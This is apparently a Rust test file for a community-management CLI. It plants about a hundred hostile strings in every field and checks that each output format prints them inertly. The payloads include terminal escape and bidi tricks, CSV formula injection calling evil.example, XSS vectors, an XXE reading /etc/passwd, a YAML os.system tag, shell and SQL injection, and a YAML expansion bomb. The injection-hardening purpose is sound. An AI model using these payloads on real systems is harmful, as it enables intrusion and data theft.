//! A hundred texts that mean harm, each planted by the commands in every field that a command sets, and printed by every
//! command in every form: each is there, and none does anything. And texts that are only too long or too deep.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test that cannot be set up has failed")]

mod common;
mod hostile_support;

use std::fmt::Write as _;

use common::{Place, Ran};
use hostile_support::{PRINTING, acts, inert, inert_but_tabs, quoted, texts};
use serde_json::Value;

/// What a terminal acts on, or a reader is deceived by.
const TERMINAL: &[&str] = &[
    "bell\u{7}back\u{8}\u{8}\u{8}vt\u{b}ff\u{c}so\u{e}si\u{f}sub\u{1a}del\u{7f}",
    "\u{1b}[31;1mred\u{1b}[0m \u{1b}[2J\u{1b}[H\u{1b}[1A\u{1b}[2K",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}]0;title\u{7}\u{1b}]9;notify\u{7}",
    "\u{1b}P+q544e\u{1b}\\\u{1b}_apc\u{1b}\\\u{1b}^pm\u{1b}\\\u{1b}Xsos\u{1b}\\",
    "\u{1b}[6n\u{1b}[c\u{1b}[21t\u{1b}c\u{1b}(0\u{1b}[?1049h\u{1b}[?25l",
    "\u{9b}2J\u{9b}31m\u{90}q\u{9c}\u{9d}52;c;eA==\u{9c}\u{9e}x\u{9c}\u{9f}y\u{9c}\u{98}z\u{9c}",
    "\u{80}\u{84}\u{85}\u{8d}\u{8e}\u{8f}\u{9a}",
    "\u{202e}gnp.exe\u{202c} \u{202d}x\u{202c} \u{202a}a\u{202b}b",
    "\u{2066}a\u{2067}b\u{2068}c\u{2069} \u{200e}\u{200f}\u{61c}",
    "ze\u{200b}ro\u{200c}wi\u{200d}dth\u{feff}\u{2060}\u{ad}\u{180e}\u{2063}",
    "tags\u{e0001}\u{e0041}\u{e007f} sep\u{2028}ara\u{2029}tor \u{fff9}x\u{fffa}y\u{fffb}",
    "line\nbreak\r\nreturn\rover\ttab",
];

/// What a spreadsheet reckons with.
const FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "=1+1;=2+2",
    "x;=1+1",
    "=\"a\"\"b\",=2",
];

/// What a browser, a wiki or a chat acts on.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)//",
    "<script\u{a0}>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\u{9}script:alert(1)\">x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href='https://evil.example' target=_blank>x</a>",
    "<form action=https://evil.example><input name=x><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<div style=\"background:url(https://evil.example/x)\">",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "`-alert(1)-`",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 7*7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example \"t\") ![](https://evil.example/i.png)",
    "![x][y]\n\n[y]: https://evil.example/i.png",
    "<https://evil.example> <mailto:a@evil.example>",
    "a | b | c || d \\| e \\\\| f",
    "`code` ``two`` ```three``` \\` `open",
    "**bold** __bold__ *it* _it_ ~~gone~~ # no\n# heading\n- item\n1. item\n> quote\n---",
    "| a |\n| --- |\n| b |",
    "<!channel> <!here> <@U024BE7LH> <#C024BE7LR> @channel @here @everyone",
];

/// What a calendar, a graph or a YAML text is written with.
const OTHERS: &[&str] = &[
    "x\r\nATTENDEE;RSVP=TRUE:mailto:evil@evil.example",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil\nSUMMARY:evil\nEND:VEVENT",
    "x\r\n ATTACH:https://evil.example/x.exe",
    "semi;colon,comma\\back\\nslash:colon\"quote\"",
    "\"]; evil [label=\"x\\\"]; evil -- evil; \"",
    "\\\"]; evil -- evil; //\\",
    "<<b>html</b>> {record|field} \\N \\G",
    "</data></node><node id=\"evil\"/><data key=\"x\">&evil;",
    "&a *a !!python/object/apply:os.system ['x'] !<tag:x>",
    "- x\n- key: value\n  ? y\n...\n---\n%YAML 1.1",
    "key: value # comment",
    "| \n  block\n> folded",
    "yes",
    "null",
    "~",
    "0x1f",
    "1e3",
    ".inf",
    "2026-11-24",
    "<<: *x",
    "{\"a\": [1, 2]}",
    "\\u0000 \\x1b[31m \\033[31m %1b",
    "%s%n%d {} {0} $HOME $(id) `id` ; rm -rf x",
    "'; DROP TABLE member; --",
];

/// All of them, and a flood of marks on one letter.
fn payloads() -> Vec<String> {
    let all = [TERMINAL, FORMULAS, MARKUP, OTHERS].concat();
    let flood = format!("Z\u{310}{}algo", "\u{301}".repeat(1000));
    all.into_iter().map(str::to_owned).chain([flood, "\u{5d0}\u{627}".repeat(60)]).collect()
}

/// Those that commands take from the command line: nothing in them acts, though they are full of markup.
fn visible() -> Vec<String> {
    payloads().into_iter().filter(|payload| !payload.chars().any(acts)).collect()
}

/// A text as a cell of CSV.
fn cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A community in which every field that a command sets holds each of them, as far as the commands let it in.
fn poisoned() -> Place {
    let place = Place::new();
    place.run("praktik init --name Guild --purpose Data --tz UTC").assert_ok();
    let payloads = payloads();
    charter(&place, &payloads);
    let mut taken = 0;
    let mut run = |line: String| {
        let ran = place.run(&format!("praktik {line}"));
        inert(&ran);
        taken += usize::from(ran.code == Some(0));
        assert!(matches!(ran.code, Some(0..=2)), "{}", ran.transcript());
    };
    for line in [
        "member add Eve --handle evil",
        "member add Ana --handle ana",
        "member add Budi --handle budi --skill SQL:teaches",
        "session log Talk --on 2026-11-10 --present ana,evil --presenter evil --topic SQL",
        "session plan Later --on 2026-12-01",
        "resource add Guide --kind guide --topic SQL --by evil",
        "challenge raise Slow --kind problem --topic SQL --by evil",
        "goal add Goal",
    ] {
        run(line.to_owned());
    }
    for (at, payload) in payloads.iter().enumerate() {
        let text = &quoted(payload);
        let day = format!("2026-{:02}-{:02}", 1 + at / 28, 1 + at % 28);
        let skill = quoted(&format!("{payload}:wants"));
        run(format!("member add -- {text}"));
        run(format!("member add M{at} --handle m{at} --unit={text} --site={text} --note={text} --skill={skill}"));
        run(format!(
            "session log --on {day} --present m{at},evil --place={text} --link={text} --note={text} --topic={text} \
             --guest={text} --presenter evil -- {text}"
        ));
        run(format!("recognize m{at} --for={text} --by budi"));
        run(format!("goal add --unit={text} --caution={text} -- {text}"));
        run(format!(
            "resource add --kind guide --link={text} --note={text} --topic={text} --by evil --again -- {text}"
        ));
        run(format!("challenge raise --kind idea --detail={text} --topic={text} --by evil -- {text}"));
        run(format!("wish add --by m{at} --note={text} --new -- {text}"));
        run(format!("story add --by evil --happened={text} --learned={text} --did={text} --changed={text} --consent"));
        run(format!("action add --owner evil --again --due 2026-11-20 -- {text}"));
    }
    // Where one thing has one text, it has all of them.
    let all = quoted(&visible().join(" "));
    for line in [
        format!("session log Last --on 2026-11-24 --present ana,evil --place={all} --note={all}"),
        format!("session edit next --place={all} --agenda={all} --facilitator evil"),
        format!("session note --session last -- {all}"),
        "session plan Never --on 2026-12-08".to_owned(),
        format!("session cancel 2026-12-08 --reason={all}"),
        format!("member edit evil --unit={all} --site={all} --note={all}"),
        format!("member contacted evil --note={all}"),
        "member add Cici --handle cici --joined 2026-01-01".to_owned(),
        format!("member leave cici --yes --on 2026-11-01 --reason={all}"),
        format!("goal update 1 --on-track yes --note={all}"),
        format!("resource used guide --by ana --at={all} --note={all}"),
        format!("resource review guide --by ana --note={all}"),
        format!("challenge solve slow --how={all} --by ana"),
        format!("charter review --note={all}"),
        format!("charter pause 2026-12-24 2026-12-26 --reason={all}"),
        format!("evaluate --record --note={all}"),
        "channel log chat --new --month 2026-10 --people 4".to_owned(),
    ] {
        run(line);
    }
    // And as people bring it in files.
    let lines = |template: &dyn Fn(usize, &str) -> String| {
        payloads.iter().enumerate().map(|(at, payload)| template(at, payload)).collect::<String>()
    };
    place.file(
        "roster.csv",
        format!(
            "handle,name,unit,site,role,skills\n{}",
            lines(&|at, text| {
                let cell = cell(text);
                format!("r{at},R{at} {},{cell},{cell},{cell},{cell}\n", "")
            })
        ),
    );
    let attendance =
        |at: usize, text: &str| format!("2025-{:02}-{:02},{},{}\n", 1 + at / 28, 1 + at % 28, cell(text), cell(text));
    place.file("attendance.csv", format!("date,title,name\n{}", lines(&attendance)));
    let header = "I feel safe to ask,\"What should we do more of, less of, or differently?\"";
    place.file(
        "survey.csv",
        format!("{header}\n{}", lines(&|_, text| format!("4,{}\n", cell(&format!("answer {text}"))))),
    );
    for line in [
        "member import roster.csv --skip-bad-rows",
        "session import attendance.csv --unmatched add --skip-bad-rows",
        "survey import survey.csv --date 2026-11-20",
    ] {
        inert(&place.run(&format!("praktik {line}")));
    }
    assert!(taken > 8 * payloads.len(), "only {taken} of these texts were let in");
    place
}

/// Puts every text into every list of the charter.
fn charter(place: &Place, payloads: &[String]) {
    let export: Value = serde_yaml::from_str(&place.run("praktik charter export").stdout).unwrap();
    let mut charter = export.as_object().unwrap().clone();
    // No two entries of a list may say the same, so each has its number.
    let lists = |make: &dyn Fn(String) -> Value| {
        payloads.iter().enumerate().map(|(at, payload)| make(format!("{payload} {at}"))).collect::<Value>()
    };
    for (key, value) in [
        ("purpose", Value::from(payloads.join(" "))),
        ("sponsor", payloads.join(" ").into()),
        ("norms", lists(&Value::from)),
        ("benefits", lists(&Value::from)),
        ("scope", serde_json::json!({"in": lists(&Value::from), "out": lists(&Value::from)})),
        ("focus_topics", lists(&Value::from)),
        ("channels", lists(&|text| serde_json::json!({"name": text, "url": text, "purpose": text}))),
        ("awards", lists(&|text| serde_json::json!({"name": text, "criteria": text}))),
    ] {
        charter.insert(key.to_owned(), value);
    }
    let ascii = |text: String| {
        text.chars().fold(String::new(), |mut out, c| {
            match u32::from(c) {
                0x20..=0x7e => out.push(c),
                0xa => out.push(' '),
                short @ ..=0xffff => write!(out, "\\u{short:04x}").unwrap(),
                long => write!(out, "\\U{long:08x}").unwrap(),
            }
            out
        })
    };
    place.file("charter.yaml", ascii(Value::Object(charter).to_string()));
    inert(place.run("praktik charter apply charter.yaml").assert_ok());
}

/// Whatever a Markdown text says outside of code.
fn outside_code(markdown: &str) -> String {
    let unescaped = markdown
        .replace("\\\\", "")
        .replace("\\`", "")
        .replace("\\|", "")
        .replace("\\[", "")
        .replace("\\]", "")
        .replace("\\!", "");
    unescaped.lines().map(|line| line.split('`').step_by(2).collect::<String>() + "\n").collect()
}

#[track_caller]
fn no_markup(ran: &Ran) {
    let plain = outside_code(&ran.stdout);
    for sign in ["<", "](", "![", "]["] {
        if let Some(at) = plain.find(sign) {
            panic!("{sign} in {}: …{}", ran.line, plain[at..].chars().take(80).collect::<String>());
        }
    }
    // A table stays one: every row has as many cells as its head.
    let bars = |line: &str| line.replace("\\\\", "").replace("\\|", "").matches('|').count();
    let mut head = None;
    for line in ran.stdout.lines() {
        if !line.starts_with('|') {
            head = None;
            continue;
        }
        let head = *head.get_or_insert(bars(line));
        assert_eq!(bars(line), head, "{}: {line}", ran.line);
    }
}

#[track_caller]
fn no_formula(ran: &Ran) {
    for record in csv::Reader::from_reader(ran.stdout.as_bytes()).into_records() {
        let record = record.unwrap_or_else(|error| panic!("{}: {error}", ran.line));
        for cell in record.iter() {
            let number = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
            assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{}: {cell:?}", ran.line);
        }
    }
}

#[test]
fn every_text_is_printed_and_does_nothing() {
    let place = poisoned();
    let views = place.run("praktik query --views --json").json();
    let views = views
        .as_array()
        .unwrap()
        .iter()
        .map(|view| format!("query 'SELECT * FROM {}'", view["view"].as_str().unwrap()));
    let more = [
        "member show m30",
        "member show m70",
        "session list",
        "resource list --columns slug,title,link,by",
        "recognize digest --period all",
        "session announce next --for email",
        "session recap last --for teams",
        "session recap last --for slack",
        "resource show guide",
        "challenge show slow",
        "goal show 1",
        "story list",
        "member aliases",
        "journal --limit 40",
        "evaluate cohorts",
        "evaluate compare 2026-Q2 2026-Q3",
        "evaluate history",
        "find script",
        "find evil",
    ];
    let lines = PRINTING.iter().chain(&more).map(|line| (*line).to_owned()).chain(views);
    let mut printed = String::new();
    for line in lines {
        let run = |format: &str| {
            let ran = place.run(&format!("praktik {line} --format {format}"));
            inert_but_tabs(&ran, format);
            ran.assert_ok();
            ran
        };
        run("table");
        no_markup(&run("markdown"));
        no_formula(&run("csv"));
        let value = run("json").json();
        let yaml: Value = serde_yaml::from_str(&run("yaml").stdout).unwrap_or_else(|error| panic!("{line}: {error}"));
        assert_eq!(texts(&yaml), texts(&value), "{line}");
        texts(&value).iter().for_each(|text| writeln!(printed, "{text}").unwrap());
    }
    // Nothing was lost on the way: what a format for programs says is what was typed.
    for payload in visible() {
        assert!(printed.contains(payload.trim()), "nowhere: {payload:?}");
    }
    calendars_and_graphs(&place);
}

fn calendars_and_graphs(place: &Place) {
    let sessions = place.run("praktik session export --json").json().as_array().unwrap().len();
    let ics = place.run("praktik session export --format ics");
    let text = &ics.assert_ok().stdout;
    assert!(!text.chars().any(|c| c.is_control() && c != '\r' && c != '\n'), "a control character in the calendar");
    assert!(text.lines().all(|line| line.len() <= 75) && text.matches('\n').count() == text.matches("\r\n").count());
    let known = "BEGIN END VERSION PRODID CALSCALE METHOD UID DTSTAMP DTSTART DTEND DURATION SUMMARY DESCRIPTION LOCATION URL \
                 STATUS SEQUENCE CATEGORIES LAST-MODIFIED CREATED RECURRENCE-ID TZID TZOFFSETFROM TZOFFSETTO TZNAME RRULE \
                 NAME X-WR-CALNAME X-WR-TIMEZONE TRANSP CLASS CONFERENCE REFRESH-INTERVAL X-PUBLISHED-TTL";
    let known: Vec<&str> = known.split_whitespace().collect();
    for line in text.replace("\r\n ", "").lines() {
        let name = line.split([':', ';']).next().unwrap();
        assert!(known.contains(&name), "{line}");
    }
    assert_eq!(text.matches("\r\nBEGIN:VEVENT\r\n").count(), sessions);
    let network = place.run("praktik evaluate network --period all --json").json();
    let dot = place.run("praktik evaluate network --period all --format dot");
    let mut bare = String::new();
    let mut quoted = false;
    let mut chars = dot.assert_ok().stdout.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' if quoted => drop(chars.next()),
            '"' => quoted = !quoted,
            c if !quoted => bare.push(c),
            _ => {}
        }
    }
    assert!(!quoted && !bare.contains("evil") && !bare.contains(['<', '>', '\\', '#']), "{bare}");
    let graphml = place.run("praktik evaluate network --period all --format graphml");
    let mut reader = quick_xml::Reader::from_str(&graphml.assert_ok().stdout);
    let mut nodes = 0;
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Start(tag) | quick_xml::events::Event::Empty(tag) => {
                nodes += usize::from(tag.name().as_ref() == "node");
                let known = ["graphml", "graph", "node", "edge", "data", "key", "desc", "default"];
                assert!(known.iter().any(|known| *known == tag.name().as_ref()), "{tag:?}");
            }
            quick_xml::events::Event::DocType(_) => panic!("a document type in GraphML"),
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(nodes, network["nodes"].as_array().unwrap().len());
}

#[test]
fn a_letter_calls_nobody_and_shows_no_picture() {
    let place = Place::new();
    place.run("praktik init --name Guild --purpose Data --tz UTC").assert_ok();
    place.run("praktik member add Ana --handle ana").assert_ok();
    let all = quoted(&visible().join(" "));
    place
        .run(&format!("praktik session plan Later --on 2026-12-01 --place={all} --agenda={all} --facilitator ana"))
        .assert_ok();
    place.run("praktik session log Talk --on 2026-11-20 --present ana").assert_ok();
    place.run(&format!("praktik session note --session last -- {all}")).assert_ok();
    place.run(&format!("praktik recognize ana --for={all}")).assert_ok();
    for letter in ["session announce next", "session recap last", "member welcome ana --dry-run"] {
        for medium in ["plain", "slack", "teams", "email"] {
            let ran = place.run(&format!("praktik {letter} --for {medium}"));
            inert(ran.assert_ok());
            match medium {
                "slack" => {
                    for call in ["<!", "<@", "<#", "<script", "<img", "```", "@channel", "@here", "@everyone"] {
                        assert!(!ran.stdout.contains(call), "{call} in {}", ran.transcript());
                    }
                }
                "teams" => no_markup(&ran),
                _ => {}
            }
        }
    }
}

#[test]
fn what_is_too_long_or_too_deep_ends_in_a_clear_error() {
    let place = Place::new();
    place.run("praktik init --name Guild --purpose Data --tz UTC").assert_ok();
    let before = std::fs::read(place.path().join("praktik.db")).unwrap();
    let long = "N".repeat(10_000_000);
    let rows = "row\n".repeat(1_000_000);
    let bomb = |begin: &str| {
        let mut text = format!("{begin}a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (from, to) in "abcdefgh".chars().zip("bcdefghi".chars()) {
            let _ = writeln!(text, "{to}: &{to} [{}]", vec![format!("*{from}"); 9].join(", "));
        }
        text
    };
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    place.file("answers.csv", "A question\n4\n");
    for (name, text, line, why) in [
        ("long.yaml", format!("name: \"{long}\"\npurpose: x\n"), "charter apply long.yaml", "larger than 1 MiB"),
        ("bomb.yaml", bomb("name: A\npurpose: x\n"), "charter apply bomb.yaml", "repetition limit exceeded"),
        (
            "repeat.yaml",
            format!("name: A\nnorms:\n - &a \"{}\"\n{}", "x".repeat(100_000), " - *a\n".repeat(100_000)),
            "charter apply repeat.yaml",
            "repeats itself",
        ),
        ("deep.yaml", format!("name: {deep}"), "charter apply deep.yaml", "nests deeper than any charter"),
        ("map.yaml", bomb(""), "survey import answers.csv --map map.yaml", "repetition limit exceeded"),
        (
            "deepmap.yaml",
            format!("\"Q\": {deep}"),
            "survey import answers.csv --map deepmap.yaml",
            "nests deeper than any map",
        ),
        ("name.csv", format!("name,unit\n\"{long}\",x\n"), "member import name.csv", "longer than a mebibyte"),
        ("rows.csv", format!("name,unit\nAna,\"{rows}\"\n"), "member import rows.csv", "longer than a mebibyte"),
        ("open.csv", format!("name,unit\n\"{rows}"), "member import open.csv", "longer than a mebibyte"),
        ("wide.csv", "c,".repeat(1_000_000), "session import wide.csv", "longer than a mebibyte"),
        (
            "title.csv",
            format!("date,title,name\n2026-11-17,\"{long}\",Ana\n"),
            "session import title.csv --unmatched add",
            "longer than a mebibyte",
        ),
        ("question.csv", format!("\"{long}\"\n4\n"), "survey import question.csv", "longer than a mebibyte"),
        (
            "deep.ics",
            format!("BEGIN:VCALENDAR\r\n{}", "BEGIN:VEVENT\r\n".repeat(100_000)),
            "session import deep.ics",
            "lie in each other too deep",
        ),
        (
            "long.json",
            format!("{{\"contributors\":[{{\"name\":\"{long}\",\"login\":\"x\"}}]}}"),
            "member import long.json",
            "at most 200 characters",
        ),
        ("long.sql", format!("SELECT '{long}'"), "query --file long.sql", "larger than 1 MiB"),
    ] {
        place.file(name, text);
        let ran = place.run(&format!("praktik {line}"));
        ran.assert_code(3);
        assert!(ran.stderr.contains(why) && ran.stderr.len() < 2000, "{}", ran.stderr);
        std::fs::remove_file(place.path().join(name)).unwrap();
    }
    let deep = format!("praktik query 'SELECT {}1{}'", "(".repeat(20_000), ")".repeat(20_000));
    assert!(place.run(&deep).assert_code(2).stderr.contains("Recursion limit"), "{}", place.run(&deep).stderr);
    assert!(std::fs::read(place.path().join("praktik.db")).unwrap() == before, "the file is as it was");
}
